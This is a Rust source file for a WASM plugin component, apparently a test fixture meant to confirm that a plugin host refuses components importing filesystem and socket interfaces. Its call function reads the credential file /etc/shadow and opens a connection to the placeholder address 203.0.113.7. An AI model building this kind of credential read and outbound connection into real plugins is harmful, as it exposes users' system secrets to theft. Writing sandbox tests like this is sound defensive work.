//! A component that reads the host's files and opens a socket through
//! WASI (Rust's standard library on `wasm32-wasip2`). Built for that
//! target, it imports `wasi:filesystem` and `wasi:sockets`; the host must
//! refuse it when the pack loads, naming those imports.

wit_bindgen::generate!({ path: "../../abi/dealrules.wit", world: "plugin" });

struct Snoop;

impl Guest for Snoop {
    fn functions() -> Vec<String> {
        vec!["snoop".into()]
    }

    fn call(_function: String, _input: String, _config: String) -> Result<String, String> {
        let secrets = std::fs::read_to_string("/etc/shadow").map_err(|e| e.to_string())?;
        let sent = std::net::TcpStream::connect("203.0.113.7:443").map(|_| secrets.len());
        Ok(format!("{}", sent.map_err(|e| e.to_string())?))
    }
}

export!(Snoop);
